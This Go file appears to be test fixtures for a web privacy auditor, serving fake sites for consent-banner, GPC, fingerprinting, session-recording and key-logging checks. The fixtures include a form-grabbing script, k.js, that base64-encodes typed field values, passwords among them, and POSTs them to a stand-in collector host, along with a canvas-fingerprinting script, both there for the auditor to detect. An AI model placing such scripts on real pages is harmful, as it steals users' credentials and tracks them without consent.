package audit

import (
	"fmt"
	"net/http"
	"strings"

	"github.com/candor-audit/candor/internal/testsite"
)

// Fixture hosts of the consent, signal and behaviour tests. Every consent
// site loads Google Analytics (gtmHost, which sets _ga and sends a GA4 hit
// to gaHost) at a different moment.
const (
	consentOK      = "consent-ok.test"      // OneTrust banner; GA only after accept
	consentEarly   = "consent-early.test"   // generic banner; GA before any answer
	consentIgnored = "consent-ignored.test" // generic banner; GA after reject too
	consentNoRej   = "consent-noreject.test"
	consentFrame   = "consent-frame.test"  // banner in a cross-site iframe
	consentShadow  = "consent-shadow.test" // banner in an open shadow root
	consentDE      = "consent-de.test"     // German banner
	cmpHost        = "cmp.consent-vendor.test"
	gpcHonoured    = "gpc-ok.test"
	gpcIgnored     = "gpc-ignored.test"
	fpSite         = "fp-site.test"
	fpVendor       = "cdn.fpvendor.test"
	chartSite      = "chart-site.test"
	signupSite     = "signup-site.test"
	grabberHost    = "keys.formgrab.test"
	searchSite     = "search-site.test"
	recorderSite   = "recorder-site.test" // loads Hotjar
	hotjarHost     = "static.hotjar.com"
)

// gaTag loads Google Analytics through the tag manager fixture.
const gaTag = `<script async src="https://` + gtmHost + `/gtag/js?id=G-TEST"></script>`

// loadGA is a script statement that adds gaTag to the page.
const loadGA = `var s = document.createElement('script'); s.src = 'https://` + gtmHost + `/gtag/js?id=G-TEST'; document.head.appendChild(s);`

// consentPage describes one consent fixture site.
type consentPage struct {
	title  string
	lang   string
	banner string // markup with buttons that call answer('accepted') or answer('rejected')
	early  bool   // GA loads before any answer
	always bool   // GA loads after reject too
	tcf    bool   // the page has an IAB TCF API that answers with tcString
}

// tcString is the TCF consent string the fixture CMP answers with.
const tcString = "CQJq0AAQJq0AAAGABCENBLFgAP_gAAAAAAAAKhtX_G__bWlr-X73aftkeYxP9_hr7sQxBgbJk"

// tcfAPI is a CMP's __tcfapi that answers getTCData asynchronously.
const tcfAPI = `<script>window.__tcfapi = function (cmd, v, cb) {
  if (cmd !== 'getTCData') return cb(null, false);
  setTimeout(function () { cb({tcString: '` + tcString + `', gdprApplies: true, eventStatus: 'tcloaded'}, true); }, 20);
};</script>`

// answerJS stores the answer, hides the banner and loads GA when the
// site's rules say so. %t: GA after reject too.
const answerJS = `<script>
function answer(choice) {
  document.cookie = 'consent=' + choice + '; path=/; max-age=31536000';
  var b = document.getElementById('banner'); if (b) b.remove();
  if (choice === 'accepted' || %t) { %s }
}
</script>`

func (c consentPage) handler() http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		ck, _ := r.Cookie("consent")
		answered := ck != nil
		ga := c.early || answered && (ck.Value == "accepted" || c.always)
		var b strings.Builder
		fmt.Fprintf(&b, "<!doctype html><html lang=%q><head><meta charset=utf-8><title>%s</title></head><body><h1>%s</h1><p>Articles.</p>", c.lang, c.title, c.title)
		fmt.Fprintf(&b, answerJS, c.always, loadGA)
		if c.tcf {
			b.WriteString(tcfAPI)
		}
		if !answered {
			b.WriteString(c.banner)
		}
		if ga {
			b.WriteString(gaTag)
		}
		b.WriteString("</body></html>")
		html(w, b.String())
	}
}

// genericBanner is a home-made fixed banner with the given buttons.
func genericBanner(text string, buttons ...string) string {
	var b strings.Builder
	b.WriteString(`<div id="banner" style="position:fixed;bottom:0;left:0;right:0;background:#fff;padding:8px"><p>` + text + `</p>`)
	for _, btn := range buttons {
		b.WriteString(btn)
	}
	b.WriteString(`</div>`)
	return b.String()
}

const (
	acceptBtn = `<button onclick="answer('accepted')">Accept all</button>`
	rejectBtn = `<button onclick="answer('rejected')">Reject all</button>`
	settings  = `<button onclick="void 0">Cookie settings</button>`
)

// serveConsentFixtures registers the consent, signal and behaviour hosts.
func serveConsentFixtures(site *testsite.Site) {
	site.Handle(consentOK, consentPage{title: "OK news", lang: "en", banner: `<div id="banner"><div id="onetrust-banner-sdk" style="position:fixed;bottom:0;width:100%;background:#fff">
<div id="onetrust-policy-text">We and our partners use cookies to measure audiences.</div>
<button id="onetrust-pc-btn-handler">Cookies Settings</button>
<button id="onetrust-reject-all-handler" onclick="answer('rejected')">Reject All</button>
<button id="onetrust-accept-btn-handler" onclick="answer('accepted')">Accept All Cookies</button></div></div>`}.handler())
	site.Handle(consentEarly, consentPage{title: "Early news", lang: "en", early: true,
		banner: genericBanner("We use cookies for analytics.", rejectBtn, acceptBtn)}.handler())
	site.Handle(consentIgnored, consentPage{title: "Ignoring news", lang: "en", always: true,
		banner: genericBanner("We use cookies for analytics.", rejectBtn, acceptBtn)}.handler())
	site.Handle(consentNoRej, consentPage{title: "No reject news", lang: "en",
		banner: genericBanner("This site uses cookies to improve your experience.", settings, acceptBtn)}.handler())
	site.Handle(consentDE, consentPage{title: "Nachrichten", lang: "de", tcf: true,
		banner: genericBanner("Wir verwenden Cookies für Statistiken.",
			`<button onclick="answer('rejected')">Alle ablehnen</button>`, `<button onclick="answer('accepted')">Alle akzeptieren</button>`)}.handler())
	site.Handle(consentShadow, consentPage{title: "Shadow news", lang: "en", banner: `<cookie-notice id="banner"></cookie-notice>
<script>
customElements.define('cookie-notice', class extends HTMLElement {
  connectedCallback() {
    const root = this.attachShadow({mode: 'open'});
    root.innerHTML = '<section style="position:fixed;bottom:0;background:#fff"><p>We use cookies to measure the audience.</p>' +
      '<button id="no">Reject all</button> <button id="yes">Accept all</button></section>';
    root.getElementById('no').onclick = () => answer('rejected');
    root.getElementById('yes').onclick = () => answer('accepted');
  }
});
</script>`}.handler())
	site.Handle(consentFrame, consentPage{title: "Framed news", lang: "en", banner: `<div id="banner" style="position:fixed;inset:0">
<iframe src="https://` + cmpHost + `/message" style="width:600px;height:300px;border:0"></iframe></div>
<script>
window.addEventListener('message', (e) => { if (e.origin === 'https://` + cmpHost + `') answer(e.data); });
</script>`}.handler())
	site.Handle(cmpHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		html(w, doc("consent message", `<div class="message-container" style="position:fixed;top:0">
<p>We use cookies and similar technologies. You can accept or reject them.</p>
<button class="message-button sp_choice_type_13" onclick="parent.postMessage('rejected', '*')">Reject all</button>
<button class="message-button sp_choice_type_11" onclick="parent.postMessage('accepted', '*')">Accept all</button></div>`))
	}))

	// Global Privacy Control: one site drops GA when it sees the signal
	// (header or navigator.globalPrivacyControl), the other does not care.
	gpc := func(honour bool) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/.well-known/gpc.json" && honour {
				w.Header().Set("Content-Type", "application/json")
				fmt.Fprint(w, `{"gpc": true, "lastUpdate": "2026-01-01"}`)
				return
			}
			if r.URL.Path != "/" {
				http.NotFound(w, r)
				return
			}
			body := "<p>Shop.</p>"
			if !honour || r.Header.Get("Sec-GPC") != "1" {
				body += gaTag
			}
			if honour {
				body += `<script>if (!navigator.globalPrivacyControl) { new Image().src = 'https://` + pixelHost + `/pixel.gif'; }</script>`
			} else {
				body += `<img src="https://` + pixelHost + `/pixel.gif" alt="">`
			}
			html(w, doc("GPC", body))
		}
	}
	site.Handle(gpcHonoured, gpc(true))
	site.Handle(gpcIgnored, gpc(false))

	// Behaviour: a canvas fingerprinter from a third party, and a chart
	// library drawing on canvas.
	site.Handle(fpSite, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		html(w, doc("Fingerprinted", `<p>Welcome.</p><script src="https://`+fpVendor+`/fp.js"></script>`))
	}))
	site.Handle(fpVendor, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprint(w, `(function () {
  var c = document.createElement('canvas'); c.width = 240; c.height = 60;
  var x = c.getContext('2d'); x.textBaseline = 'top'; x.font = "14px 'Arial'";
  x.fillStyle = '#f60'; x.fillRect(125, 1, 62, 20);
  x.fillStyle = '#069'; x.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
  x.fillStyle = 'rgba(102, 204, 0, 0.7)'; x.fillText('Cwm fjordbank glyphs vext quiz', 4, 17);
  window.fp = c.toDataURL().length;
})();`)
	}))
	site.Handle(chartSite, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/chart.js" {
			w.Header().Set("Content-Type", "application/javascript")
			fmt.Fprint(w, `(function () {
  var c = document.getElementById('chart'); var x = c.getContext('2d');
  c.addEventListener('mousemove', function () {});
  var data = [12, 19, 3, 5, 2, 3, 9], labels = ['January', 'February', 'March', 'April', 'May', 'June', 'July'];
  data.forEach(function (v, i) {
    x.save(); x.fillStyle = i % 2 ? '#36a2eb' : '#ff6384'; x.fillRect(20 + i * 50, 180 - v * 8, 40, v * 8);
    x.fillStyle = '#666'; x.font = '12px sans-serif'; x.fillText(labels[i], 20 + i * 50, 195); x.restore();
  });
  window.png = c.toDataURL('image/png').length;
})();`)
			return
		}
		html(w, doc("Charts", `<canvas id="chart" width="400" height="200"></canvas><script src="/chart.js"></script>`))
	}))

	// Session recording by a known vendor's host.
	site.Handle(recorderSite, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		html(w, doc("Recorded", `<p>Every move.</p><script async src="https://`+hotjarHost+`/c/hotjar-1.js?sv=6"></script>`))
	}))
	site.Handle(hotjarHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprint(w, `window.hj = function () {};`)
	}))

	// Key logging: a sign-up form whose third-party script ships what is
	// typed before it is submitted, and a first-party search box.
	site.Handle(signupSite, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		html(w, doc("Sign up", `<form action="/register" method="post"><input type="email" name="email"> <input type="text" name="name"> <input type="password" name="pw"> <button>Register</button></form>
<script src="https://`+grabberHost+`/k.js"></script>`))
	}))
	site.Handle(grabberHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/k.js" {
			w.Header().Set("Content-Type", "application/javascript")
			fmt.Fprint(w, `document.addEventListener('change', function (e) {
  var v = e.target.value; if (!v) return;
  fetch('https://`+grabberHost+`/collect', {method: 'POST', mode: 'no-cors', body: 'f=' + btoa(v)});
}, true);`)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	site.Handle(searchSite, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/suggest" {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprint(w, "[]")
			return
		}
		html(w, doc("Search", `<input type="search" id="q" placeholder="search">
<script>document.getElementById('q').addEventListener('input', function (e) { fetch('/suggest?q=' + encodeURIComponent(e.target.value)); });</script>`))
	}))
}
